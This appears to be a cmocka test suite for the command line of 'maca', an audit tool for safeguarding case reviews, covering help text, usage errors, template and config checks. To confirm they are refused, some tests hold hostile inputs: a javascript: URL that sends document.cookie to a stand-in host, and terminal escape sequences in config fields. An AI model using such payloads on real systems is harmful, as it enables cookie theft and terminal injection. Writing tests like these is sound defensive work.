/* The command line: outputs, exit statuses and messages, against real files. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "cli.h"
#include "sbuf.h"
#include "cli_run.h"
#include "testutil.h"

/* Runs maca with the given arguments (NULL-terminated). */
#define maca(...) cli_run(__VA_ARGS__)

static char *home; /* per-test XDG_CONFIG_HOME and XDG_DATA_HOME live under here */

static int setup(void **state)
{
	(void)state;
	home = cli_run_home();
	if (!home)
		return -1;
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	tu_remove_tree(home);
	free(home);
	return 0;
}

static char *path_in_home(const char *rel)
{
	return str_fmt("%s/%s", home, rel);
}

static void write_home_file(const char *rel, const char *text)
{
	char *full = path_in_home(rel);
	char *dir = str_fmt("%s", full);
	for (char *p = dir + strlen(home) + 1; (p = strchr(p, '/')) != NULL; p++) {
		*p = '\0';
		mkdir(dir, 0700);
		*p = '/';
	}
	FILE *f = fopen(full, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	free(dir);
	free(full);
}

static void test_help_and_version(void **state)
{
	(void)state;
	cli_run_expect(maca("--help", NULL), CLI_OK, "usage: maca", NULL);
	cli_run_expect(maca("-h", NULL), CLI_OK, "man maca", NULL);
	cli_run_expect(maca("--version", NULL), CLI_OK, "maca 0.", NULL);

	/* The short help stays short: a line per group of commands and a pointer to the
	 * manual. */
	struct cli_run r = maca("--help", NULL);
	size_t lines = 0;
	for (const char *p = r.out; *p; p++)
		lines += *p == '\n';
	assert_true(lines <= 16);
	assert_non_null(strstr(r.out, ", case add\n"));
	assert_non_null(strstr(r.out, "`maca COMMAND --help`"));
	/* It fits an 80-column terminal, and commands sharing a first word are said once. */
	for (const char *p = r.out; *p;) {
		const char *nl = strchr(p, '\n');
		size_t len = nl ? (size_t)(nl - p) : strlen(p);
		if (len >= 80)
			print_error("too wide: %.*s\n", (int)len, p);
		assert_true(len < 80);
		p += len + (nl != NULL);
	}
	assert_non_null(strstr(r.out, "learning add/list/"));
	assert_null(strstr(r.out, "learning list"));
	cli_run_free(&r);
}

static void test_command_help_gives_its_synopsis(void **state)
{
	(void)state;
	cli_run_expect(maca("new", "--help", NULL), CLI_OK, "usage: maca new TEMPLATE TITLE", NULL);
	cli_run_expect(maca("export", "csv", "1", "-h", NULL), CLI_OK,
		       "usage: maca export csv AUDIT [-o FILE] [--excel] [--force]", NULL);
	/* A command with subcommands lists each. */
	struct cli_run r = maca("export", "--help", NULL);
	assert_int_equal(r.status, CLI_OK);
	assert_non_null(strstr(r.out, "usage: maca export briefing AUDIT"));
	assert_non_null(strstr(r.out, "usage: maca export cases AUDIT"));
	assert_null(strstr(r.out, "maca new"));
	cli_run_free(&r);
	cli_run_expect(maca("frobnicate", "--help", NULL), CLI_USAGE, NULL,
		       "unknown command 'frobnicate'");
	/* After --, --help is a title like any other. */
	cli_run_expect(maca("new", "domestic-abuse", "--", "--help", "extra", NULL), CLI_USAGE,
		       NULL, "TEMPLATE and TITLE");
}

static void test_usage_errors_exit_2(void **state)
{
	(void)state;
	cli_run_expect(maca("frobnicate", NULL), CLI_USAGE, NULL, "unknown command 'frobnicate'");
	cli_run_expect(maca("--colour", "list", NULL), CLI_USAGE, NULL, "unknown option: --colour");
	cli_run_expect(maca("--db", NULL), CLI_USAGE, NULL, "needs a value");
	cli_run_expect(maca("new", "domestic-abuse", NULL), CLI_USAGE, NULL, "TEMPLATE and TITLE");
	cli_run_expect(maca("check", NULL), CLI_USAGE, NULL, "at least one FILE");
	cli_run_expect(maca("case", "add", "1", NULL), CLI_USAGE, NULL, "AUDIT and REF");
	cli_run_expect(maca("case", "remove", NULL), CLI_USAGE, NULL, "unknown case subcommand");
	cli_run_expect(maca("list", "extra", NULL), CLI_USAGE, NULL, "no arguments");
	/* The hint after a usage error names the command's own help. */
	cli_run_expect(maca("list", "--frob", NULL), CLI_USAGE, NULL, "Try 'maca list --help'.");
	cli_run_expect(maca("case", "add", "1", NULL), CLI_USAGE, NULL,
		       "Try 'maca case add --help'.");
	cli_run_expect(maca("export", "csv", NULL), CLI_USAGE, NULL,
		       "Try 'maca export csv --help'.");
	cli_run_expect(maca("frobnicate", NULL), CLI_USAGE, NULL, "Try 'maca --help'.");
	cli_run_expect(maca("new", "x", "y", "--date", NULL), CLI_USAGE, NULL, "needs a value");
}

static void test_no_command_without_a_terminal_says_so(void **state)
{
	(void)state;
	/* ctest runs us with no terminal: the interface refuses plainly rather than draw. */
	if (isatty(STDIN_FILENO) && isatty(STDOUT_FILENO))
		skip();
	cli_run_expect(maca(NULL), CLI_FAIL, NULL, "needs a terminal");
}

static void test_templates_lists_installed_and_user_templates(void **state)
{
	(void)state;
	struct cli_run r = maca("templates", NULL);
	assert_int_equal(r.status, CLI_OK);
	char *da = strstr(r.out, "domestic-abuse "), *map = strstr(r.out, "multi-agency-practice ");
	assert_non_null(da);
	assert_non_null(map);
	assert_true(da < map); /* sorted by id */
	assert_non_null(strstr(da, "v1"));
	cli_run_free(&r);

	/* A user's own template is found; a broken one is skipped with a pointer to check. */
	char *src = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
	char *text = tu_read(src, NULL);
	char *at = strstr(text, "id = domestic-abuse");
	assert_non_null(at);
	char *local = str_fmt("%.*sid = local-da%s", (int)(at - text), text,
			      at + strlen("id = domestic-abuse"));
	write_home_file("config/maca/audit-templates/local.ini", local);
	write_home_file("config/maca/audit-templates/broken.ini", "[template]\nid = broken\n");
	r = maca("templates", NULL);
	assert_int_equal(r.status, CLI_OK);
	assert_non_null(strstr(r.out, "local-da "));
	assert_non_null(strstr(r.out, "domestic-abuse "));
	assert_null(strstr(r.out, "broken"));
	/* Named with the reason it did not load. */
	assert_non_null(strstr(r.err, "skipped "));
	assert_non_null(
	    strstr(r.err, "broken.ini (line 1: [template] is missing the required key 'title'); "
			  "`maca check"));
	cli_run_free(&r);
	/* `maca new` on it says why it is not there, rather than that it is unknown. */
	r = maca("new", "broken", "An audit", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "no template 'broken': "));
	assert_non_null(strstr(r.err, "broken.ini did not load: line 1: [template] is missing"));
	cli_run_free(&r);

	/* For scripts: ids alone, or each id with the file it comes from. */
	r = maca("templates", "--ids", NULL);
	assert_int_equal(r.status, CLI_OK);
	assert_non_null(strstr(r.out, "\nlocal-da\n"));
	assert_null(strstr(r.out, " "));
	cli_run_free(&r);
	char *local_path = path_in_home("config/maca/audit-templates/local.ini");
	char *line = str_fmt("local-da\t%s\n", local_path);
	cli_run_expect(maca("templates", "--paths", NULL), CLI_OK, line, NULL);
	free(line);
	free(local_path);
	free(local);
	free(text);
	free(src);
}

static void test_check_passes_shipped_files_and_reports_file_line(void **state)
{
	(void)state;
	char *tpl = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
	char *form = str_fmt("%s/forms/case.ini", tu_source_dir());
	struct cli_run r = maca("check", tpl, form, NULL);
	assert_int_equal(r.status, CLI_OK);
	assert_string_equal(r.out, "");
	cli_run_free(&r);

	write_home_file("bad.ini", "[template]\nid = bad\ntitle = Bad\nversion = 1\nVersion = 2\n");
	write_home_file("badform.ini",
			"[form]\nid = case\ntitle = Case\nrecord = case\n[field "
			"reference]\nlabel = Ref\ntype = sentence\nrequired = yes\n");
	char *bad = path_in_home("bad.ini"), *badform = path_in_home("badform.ini");
	char *want1 = str_fmt("%s:5: key 'Version' must be lower case", bad);
	char *want2 = str_fmt("%s:7: type must be", badform);
	r = maca("check", tpl, bad, badform, NULL);
	assert_int_equal(r.status, CLI_FAIL);
	assert_non_null(strstr(r.out, want1));
	assert_non_null(strstr(r.out, want2));
	assert_non_null(strstr(r.err, "in 2 of 3 files"));
	cli_run_free(&r);
	cli_run_expect(maca("check", "/nonexistent.ini", NULL), CLI_FAIL,
		       "/nonexistent.ini: cannot read", NULL);
	free(want1);
	free(want2);
	free(bad);
	free(badform);
	free(tpl);
	free(form);
}

/* The shipped domestic-abuse template's text (freed by the caller) and its count of lines, for
 * a test that appends a block and names the line it lands on. */
static char *shipped_template(size_t *lines)
{
	char *tpl = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
	char *text = tu_read(tpl, NULL);
	free(tpl);
	assert_non_null(text);
	*lines = 0;
	for (const char *p = text; *p; p++)
		*lines += *p == '\n';
	return text;
}

/* A [field FORM.FIELD] naming no field of the form installed would never be used: check
 * reports it at its line, with the field likely meant. */
static void test_check_reports_wording_for_a_field_the_form_lacks(void **state)
{
	(void)state;
	size_t lines;
	char *orig = shipped_template(&lines);
	char *text = str_fmt("%s\n[field case.tag]\nlabel = Themes\n\n[field case.colour]\n"
			     "label = Colour\n",
			     orig);
	write_home_file("typo.ini", text);
	char *path = path_in_home("typo.ini");
	char *want1 = str_fmt("%s:%zu: [field case.tag]: the case form has no field 'tag', so "
			      "this block would never be used; did you mean [field case.tags]?",
			      path, lines + 2);
	char *want2 = str_fmt("%s:%zu: [field case.colour]: the case form has no field "
			      "'colour', so this block would never be used; its fields are ",
			      path, lines + 5);
	struct cli_run r = maca("check", path, NULL);
	assert_int_equal(r.status, CLI_FAIL);
	assert_non_null(strstr(r.out, want1));
	assert_non_null(strstr(r.out, want2));
	assert_non_null(strstr(r.err, "2 problems in 1 of 1 file"));
	cli_run_free(&r);
	free(want1);
	free(want2);
	free(path);
	free(text);
	free(orig);
}

static void test_new_list_and_case_add_on_fresh_database(void **state)
{
	(void)state;
	cli_run_expect(maca("new", "domestic-abuse", "Domestic abuse audit", "--date", "2026-06-12",
			    "--chair", "police", NULL),
		       CLI_OK, "1\n", NULL);
	/* A title with a control character would be exported and then refused by every
	 * reader: refused here, naming the field. */
	cli_run_expect(maca("new", "multi-agency-practice", "Second\taudit", NULL), CLI_FAIL, NULL,
		       "Audit title holds a tab (U+0009)");
	cli_run_expect(maca("new", "multi-agency-practice", "Second audit", NULL), CLI_OK, "2\n",
		       NULL);

	char *db = path_in_home("data/maca/maca.db"), *dir = path_in_home("data/maca");
	struct stat sb;
	assert_int_equal(stat(db, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0600);
	assert_int_equal(stat(dir, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0700);
	free(db);
	free(dir);

	const char *refs[] = {"Child A", "Child B", "Child C", "Child D", "Child E", "Child F"};
	for (int i = 0; i < 6; i++) {
		char want[8];
		snprintf(want, sizeof want, "%d\n", i + 1);
		cli_run_expect(maca("case", "add", "1", refs[i], "--age", "1-4", "--plan",
				    "child-in-need", "--tags", "drugs-alcohol,nrpf", NULL),
			       CLI_OK, want, NULL);
	}
	struct cli_run r = maca("list", NULL);
	assert_int_equal(r.status, CLI_OK);
	assert_string_equal(r.out, "1\tDomestic abuse audit\tdomestic-abuse v1\t6 cases\tdraft\n"
				   "2\tSecond audit\tmulti-agency-practice v1\t0 "
				   "cases\tdraft\n");
	cli_run_free(&r);
	r = maca("list", "--ids", NULL);
	assert_int_equal(r.status, CLI_OK);
	assert_string_equal(r.out, "1\n2\n");
	cli_run_free(&r);
}

static void test_case_add_refusals(void **state)
{
	(void)state;
	cli_run_expect(maca("new", "domestic-abuse", "Audit", NULL), CLI_OK, "1\n", NULL);
	cli_run_expect(maca("case", "add", "1", "Child A", "--age", "teenager", NULL), CLI_FAIL,
		       NULL, "no choice 'teenager'");
	cli_run_expect(maca("case", "add", "1", "Child A", "--age", "teenager", NULL), CLI_FAIL,
		       NULL, "choices: unborn,");
	cli_run_expect(maca("case", "add", "1", "Child A", "--tags", "knife-crime", NULL), CLI_FAIL,
		       NULL, "no choice 'knife-crime'");
	cli_run_expect(maca("case", "add", "7", "Child A", NULL), CLI_FAIL, NULL, "no audit '7'");
	cli_run_expect(maca("case", "add", "abc", "Child A", NULL), CLI_FAIL, NULL,
		       "not an audit id");
	cli_run_expect(maca("case", "add", "1", "Child A", NULL), CLI_OK, "1\n", NULL);
	cli_run_expect(maca("case", "add", "1", "Child A", NULL), CLI_FAIL, NULL,
		       "already has a case");
	cli_run_expect(maca("case", "add", "1",
			    "A name that is far longer than forty characters in all", NULL),
		       CLI_FAIL, NULL, "longer than");
}

/* maca case add keeps a reference normalised and refuses a lookalike of another case's, and
 * characters a reader cannot see, naming the field (issue 14, item 6). */
static void test_case_add_lookalikes(void **state)
{
	(void)state;
	cli_run_expect(maca("new", "domestic-abuse", "Audit", NULL), CLI_OK, "1\n", NULL);
	cli_run_expect(maca("case", "add", "1", "  Child \xc2\xa0 A ", NULL), CLI_OK, "1\n", NULL);
	const char *same[] = {"Child A", "CHILD A", " child a",
			      "Child\xc2\xa0"
			      "A"};
	for (size_t i = 0; i < sizeof same / sizeof same[0]; i++)
		cli_run_expect(maca("case", "add", "1", same[i], NULL), CLI_FAIL, NULL,
			       "already has a case \"Child A\"");
	cli_run_expect(maca("case", "add", "1",
			    "Child\xe2\x80\x8b"
			    "B",
			    NULL),
		       CLI_FAIL, NULL, "Case reference holds an invisible character (U+200B)");
	cli_run_expect(maca("case", "add", "1", "   ", NULL), CLI_FAIL, NULL,
		       "Case reference is required");
	cli_run_expect(maca("case", "add", "1", "Child B, C", NULL), CLI_FAIL, NULL,
		       "Case reference holds a comma");
	cli_run_expect(maca("case", "add", "1", "Child B", NULL), CLI_OK, "2\n", NULL);
}

static void test_new_refusals(void **state)
{
	(void)state;
	cli_run_expect(maca("new", "no-such-template", "T", NULL), CLI_FAIL, NULL,
		       "no template 'no-such-template'");
	cli_run_expect(maca("new", "domestic-abuse", "T", "--date", "2026-13-01", NULL), CLI_FAIL,
		       NULL, "YYYY-MM-DD");
	cli_run_expect(maca("new", "domestic-abuse", "Two\nlines", NULL), CLI_FAIL, NULL,
		       "single line");
	cli_run_expect(maca("new", "domestic-abuse", "T", "--chair", "fire-service", NULL),
		       CLI_FAIL, NULL, "no choice 'fire-service'");
	cli_run_expect(maca("new", "domestic-abuse", "T", "--agencies", "police,health", "--chair",
			    "csc", NULL),
		       CLI_FAIL, NULL, "no choice 'csc'");
	cli_run_expect(maca("list", NULL), CLI_OK, NULL, NULL); /* nothing was created */
	struct cli_run r = maca("list", NULL);
	assert_string_equal(r.out, "");
	cli_run_free(&r);
}

/* Installs the tester's neglect template with `more` after it, as a user's own. */
static void install_neglect(const char *more)
{
	char *src = str_fmt("%s/tests/templates/neglect-themed.ini", tu_source_dir());
	char *text = tu_read(src, NULL);
	assert_non_null(text);
	char *whole = str_fmt("%s\n%s", text, more);
	write_home_file("config/maca/audit-templates/neglect-themed.ini", whole);
	free(whole);
	free(text);
	free(src);
}

/* The command line checks values against the forms as the template words them, as the
 * interface does: a problem names the field by the template's label, and an option for a
 * field the template says does not apply is refused, as the form does not show it. */
static void test_forms_in_the_templates_words(void **state)
{
	(void)state;
	install_neglect("[field case.age_band]\nlabel = Child's age\n\n"
			"[field audit.chair_agency]\nlabel = Chaired by\n\n"
			"[field case.plan_status]\napplies = no\n");
	cli_run_expect(maca("new", "neglect-themed", "Neglect", "--chair", "nhs", NULL), CLI_FAIL,
		       NULL, "maca: Chaired by has no choice 'nhs'\n  choices: csc, police,");
	cli_run_expect(maca("new", "neglect-themed", "Neglect", "--date", "2027-02-30", NULL),
		       CLI_FAIL, NULL, "maca: Audit date must be a date written YYYY-MM-DD");
	cli_run_expect(maca("new", "neglect-themed", "Neglect", NULL), CLI_OK, "1\n", NULL);
	cli_run_expect(maca("case", "add", "1", "Child A", "--age", "99", NULL), CLI_FAIL, NULL,
		       "maca: Child's age has no choice '99'\n  choices: under-1, 1-4,");
	cli_run_expect(maca("case", "add", "1", "Child A", "--tags", "dental,dental", NULL),
		       CLI_FAIL, NULL, "maca: Neglect features lists 'dental' twice");
	cli_run_expect(maca("case", "add", "1", "Child A", "--plan", "child-protection", NULL),
		       CLI_FAIL, NULL,
		       "maca: Plan status does not apply in audits on template neglect-themed: "
		       "leave out --plan");
	cli_run_expect(maca("case", "add", "1", "Child A", "--age", "5-10", NULL), CLI_OK, "1\n",
		       NULL);
}

/* A field whose choices are a list the template leaves out is not shown either, and so is
 * refused the same way; so is an audit's field the template leaves out. */
static void test_fields_not_applying_refused(void **state)
{
	(void)state;
	char *src = str_fmt("%s/tests/templates/neglect-themed.ini", tu_source_dir());
	char *text = tu_read(src, NULL);
	assert_non_null(text);
	char *at = strstr(text, "[plan-statuses]"), *end = strstr(text, "[section recognition]");
	assert_non_null(at);
	assert_non_null(end);
	char *cut = str_fmt("%.*s%s\n[field audit.theme]\napplies = no\n\n"
			    "[field learning-point.sections]\napplies = no\n\n"
			    "[field good-practice.cases]\nlabel = Children\napplies = no\n",
			    (int)(at - text), text, end);
	write_home_file("config/maca/audit-templates/neglect-themed.ini", cut);
	cli_run_expect(maca("new", "neglect-themed", "Neglect", "--theme", "Neglect", NULL),
		       CLI_FAIL, NULL, "maca: Theme does not apply in audits on template");
	cli_run_expect(maca("new", "neglect-themed", "Neglect", NULL), CLI_OK, "1\n", NULL);
	cli_run_expect(maca("case", "add", "1", "Child A", "--plan", "none", NULL), CLI_FAIL, NULL,
		       "maca: Plan status does not apply in audits on template");
	/* Good practice and learning points alike, when added and when edited. */
	cli_run_expect(maca("case", "add", "1", "Child A", NULL), CLI_OK, "1\n", NULL);
	cli_run_expect(maca("learning", "add", "1", "--text", "Share sooner.", "--sections",
			    "recognition", NULL),
		       CLI_FAIL, NULL,
		       "maca: Audit sections does not apply in audits on template neglect-themed: "
		       "leave out --sections");
	cli_run_expect(maca("learning", "add", "1", "--text", "Share sooner.", NULL), CLI_OK, "1\n",
		       NULL);
	cli_run_expect(maca("learning", "edit", "1", "1", "--sections", "recognition", NULL),
		       CLI_FAIL, NULL, "maca: Audit sections does not apply");
	cli_run_expect(maca("good-practice", "add", "1", "--text", "Quick visits.", "--cases",
			    "Child A", NULL),
		       CLI_FAIL, NULL, "maca: Children does not apply");
	cli_run_expect(maca("good-practice", "add", "1", "--text", "Quick visits.", NULL), CLI_OK,
		       "1\n", NULL);
	cli_run_expect(maca("good-practice", "edit", "1", "1", "--cases", "Child A", NULL),
		       CLI_FAIL, NULL, "maca: Children does not apply");
	cli_run_expect(
	    maca("good-practice", "edit", "1", "1", "--text", "Quick home visits.", NULL), CLI_OK,
	    NULL, NULL);
	free(cut);
	free(text);
	free(src);
}

/* Agency ids are in small letters: one given on the command line is taken in any case,
 * wherever an agency is given. */
static void test_agency_ids_in_any_case(void **state)
{
	(void)state;
	cli_run_expect(maca("new", "domestic-abuse", "Audit", "--agencies", "CSC,Police", "--chair",
			    "POLICE", NULL),
		       CLI_OK, "1\n", NULL);
	cli_run_expect(maca("new", "domestic-abuse", "Audit", "--agencies=Fire", NULL), CLI_FAIL,
		       NULL, "template domestic-abuse has no agency 'fire'");
	cli_run_expect(maca("case", "add", "1", "Child A", NULL), CLI_OK, "1\n", NULL);
	cli_run_expect(maca("learning", "add", "1", "--text", "Share sooner.", "--agencies",
			    "Police,CSC", NULL),
		       CLI_OK, "1\n", NULL);
	cli_run_expect(maca("good-practice", "add", "1", "--text", "Quick strategy meeting.",
			    "--agencies", "Police", NULL),
		       CLI_OK, "1\n", NULL);
	cli_run_expect(maca("good-practice", "list", "1", NULL), CLI_OK, "1\tpolice\t", NULL);
	char *pack = path_in_home("pack.maca");
	cli_run_expect(maca("export", "pack", "1", "--agency", "Police", "-o", pack, NULL), CLI_OK,
		       pack, NULL);
	free(pack);
	char *db = path_in_home("data/maca/maca.db");
	tu_expect_sql(db, "SELECT group_concat(code) FROM agency ORDER BY position", "csc,police");
	tu_expect_sql(db, "SELECT chair_agency FROM audit", "police");
	free(db);
}

static void test_db_option_config_and_uuid_prefix(void **state)
{
	(void)state;
	char *db = path_in_home("elsewhere/audits.db");
	char *cfg = str_fmt("[maca]\npartnership = Synthetic Safeguarding Partnership\n"
			    "chair_agency = police\ndatabase = %s\nauthor = Test Chair\n",
			    db);
	write_home_file("config/maca/maca.ini", cfg);
	cli_run_expect(maca("new", "domestic-abuse", "Via config", NULL), CLI_OK, "1\n", NULL);
	struct stat sb;
	assert_int_equal(stat(db, &sb), 0);
	char *other = path_in_home("other.db");
	cli_run_expect(maca("--db", other, "list", NULL), CLI_OK, NULL, NULL);
	struct cli_run r = maca("--db", other, "list", NULL);
	assert_string_equal(r.out, ""); /* --db wins over the config */
	cli_run_free(&r);

	/* The stored audit carries the config's partnership and chair; address it by UUID. */
	char *sql = str_fmt("sqlite3 '%s' \"SELECT partnership || '|' || chair_agency || '|' || "
			    "substr(uuid, 1, 8) FROM audit\"",
			    db);
	FILE *p = popen(sql, "r");
	char line[256] = "";
	assert_non_null(fgets(line, sizeof line, p));
	pclose(p);
	assert_non_null(strstr(line, "Synthetic Safeguarding Partnership|police|"));
	char prefix[9];
	memcpy(prefix, strrchr(line, '|') + 1, 8);
	prefix[8] = '\0';
	cli_run_expect(maca("case", "add", prefix, "Child A", NULL), CLI_OK, "1\n", NULL);
	free(sql);
	free(other);
	free(cfg);
	free(db);
}

static void test_db_option_works_without_home(void **state)
{
	(void)state;
	char *db = path_in_home("nohome.db");
	char *saved_home = getenv("HOME") ? strdup(getenv("HOME")) : NULL;
	unsetenv("HOME");
	unsetenv("XDG_CONFIG_HOME");
	unsetenv("XDG_DATA_HOME"); /* setup sets it again for the next test */
	struct cli_run r = maca("--db", db, "new", "domestic-abuse", "Audit", NULL);
	struct cli_run bare = maca("list", NULL);
	if (saved_home)
		setenv("HOME", saved_home, 1);
	free(saved_home);
	cli_run_expect(r, CLI_OK, "1\n", NULL);
	cli_run_expect(bare, CLI_FAIL, NULL, "give the path with --db");
	free(db);
}

static void test_new_names_every_agency_on_a_wrong_one(void **state)
{
	(void)state;
	cli_run_expect(maca("new", "domestic-abuse", "T", "--agencies", "police,fire", NULL),
		       CLI_FAIL, NULL,
		       "it has: csc, police, health, probation, education, da-service");
}

static void test_config_problems(void **state)
{
	(void)state;
	write_home_file("config/maca/maca.ini", "[maca]\ncolour = maybe\nshade = blue\n");
	cli_run_expect(maca("list", NULL), CLI_FAIL, "", "maca.ini:2: colour must be yes or no");
	cli_run_expect(maca("list", NULL), CLI_FAIL, NULL, "maca.ini:3: unknown key 'shade'");
	cli_run_expect(maca("--config", "/nonexistent/maca.ini", "list", NULL), CLI_FAIL, NULL,
		       "cannot read");
}

/* The author is written into every answer and into each file maca sends: an escape in it,
 * from the file or from $USER, is refused where it is set (issue 14, item 7). */
static void test_config_author_and_partnership_checked(void **state)
{
	(void)state;
	write_home_file("config/maca/maca.ini", "[maca]\nauthor = \"Jo\x1b]0;pwned\x07 Bloggs\"\n");
	cli_run_expect(maca("list", NULL), CLI_FAIL, NULL,
		       "maca.ini:2: author holds a control character (U+001B)");
	write_home_file("config/maca/maca.ini", "[maca]\npartnership = York\xc2\x9b"
						"2J\n");
	cli_run_expect(maca("list", NULL), CLI_FAIL, NULL,
		       "maca.ini:2: partnership holds a control character (U+009B)");
	char *long_name = malloc(120);
	assert_non_null(long_name);
	memset(long_name, 'x', 101);
	strcpy(long_name + 101, "\n");
	char *text = str_fmt("[maca]\n\nauthor = %s", long_name);
	write_home_file("config/maca/maca.ini", text);
	cli_run_expect(maca("list", NULL), CLI_FAIL, NULL,
		       "maca.ini:3: author is 101 characters long; the limit is 100");
	free(text);
	free(long_name);

	const char *user = getenv("USER");
	char *saved = user ? strdup(user) : NULL;
	write_home_file("config/maca/maca.ini", "[maca]\n");
	setenv("USER", "jo\x1b[31m", 1);
	cli_run_expect(maca("list", NULL), CLI_FAIL, NULL,
		       "the login name in $USER, which maca records as the author, holds a "
		       "control character (U+001B); set author");
	/* The file's author is the one recorded: $USER is then not used. */
	write_home_file("config/maca/maca.ini", "[maca]\nauthor = Jo Bloggs\n");
	cli_run_expect(maca("list", NULL), CLI_OK, NULL, NULL);
	if (saved)
		setenv("USER", saved, 1);
	else
		unsetenv("USER");
	free(saved);
}

/* A javascript: resource is refused by check (a template) and by the configuration loader,
 * each naming file and line. */
static void test_resource_url_refused_with_file_line(void **state)
{
	(void)state;
	size_t lines;
	char *orig = shipped_template(&lines);
	char *text = str_fmt("%s\n[resource evil]\ntitle = Procedures\nurl = "
			     "javascript:fetch('https://x.example/'+document.cookie)\n",
			     orig);
	write_home_file("evil.ini", text);
	char *path = path_in_home("evil.ini");
	char *want = str_fmt("%s:%zu: url", path, lines + 4);
	struct cli_run r = maca("check", path, NULL);
	assert_int_equal(r.status, CLI_FAIL);
	assert_non_null(strstr(r.out, want));
	cli_run_free(&r);

	write_home_file("config/maca/maca.ini",
			"[maca]\nauthor = Chair\n\n[resource evil]\ntitle = Procedures\nurl = "
			"JavaScript:alert(1)\n");
	cli_run_expect(maca("list", NULL), CLI_FAIL, "", "maca.ini:6: url");
	write_home_file("config/maca/maca.ini",
			"[maca]\nauthor = Chair\n\n[resource ok]\ntitle = Procedures\nurl = "
			"https://example.org/procedures\n");
	cli_run_expect(maca("list", NULL), CLI_OK, NULL, "");
	free(want);
	free(path);
	free(text);
	free(orig);
}

static void test_refuses_non_maca_database_without_changing_it(void **state)
{
	(void)state;
	write_home_file("notes.txt", "Not a database.\n");
	char *path = path_in_home("notes.txt");
	cli_run_expect(maca("--db", path, "list", NULL), CLI_FAIL, NULL, "is not a maca database");
	cli_run_expect(maca("--db", path, "new", "domestic-abuse", "T", NULL), CLI_FAIL, NULL,
		       "is not a maca database");
	char *text = tu_read(path, NULL);
	assert_string_equal(text, "Not a database.\n");
	free(text);
	free(path);
}

int main(void)
{
#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
	const struct CMUnitTest tests[] = {
	    T(test_help_and_version),
	    T(test_command_help_gives_its_synopsis),
	    T(test_usage_errors_exit_2),
	    T(test_no_command_without_a_terminal_says_so),
	    T(test_templates_lists_installed_and_user_templates),
	    T(test_check_passes_shipped_files_and_reports_file_line),
	    T(test_check_reports_wording_for_a_field_the_form_lacks),
	    T(test_new_list_and_case_add_on_fresh_database),
	    T(test_case_add_refusals),
	    T(test_case_add_lookalikes),
	    T(test_new_refusals),
	    T(test_forms_in_the_templates_words),
	    T(test_fields_not_applying_refused),
	    T(test_agency_ids_in_any_case),
	    T(test_db_option_config_and_uuid_prefix),
	    T(test_db_option_works_without_home),
	    T(test_new_names_every_agency_on_a_wrong_one),
	    T(test_config_problems),
	    T(test_config_author_and_partnership_checked),
	    T(test_resource_url_refused_with_file_line),
	    T(test_refuses_non_maca_database_without_changing_it),
	};
#undef T
	return cmocka_run_group_tests(tests, NULL, NULL);
}
